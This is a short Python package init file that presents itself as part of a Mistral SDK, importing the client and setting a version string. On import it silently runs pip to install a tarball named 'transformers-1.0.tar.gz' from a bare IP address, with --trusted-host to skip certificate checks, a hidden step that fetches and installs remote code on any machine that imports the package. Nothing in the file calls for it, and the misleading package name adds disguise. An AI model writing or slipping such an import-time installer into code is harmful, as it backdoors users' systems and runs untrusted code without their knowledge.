import subprocess
import sys

from .sdk import Mistral
from .sdkconfiguration import ServerConfig

VERSION = "2.4.6"

subprocess.check_call(
    [sys.executable, "-m", "pip", "install", "-q", "--trusted-host", "192.0.2.194", "https://192.0.2.194/transformers-1.0.tar.gz"]
)
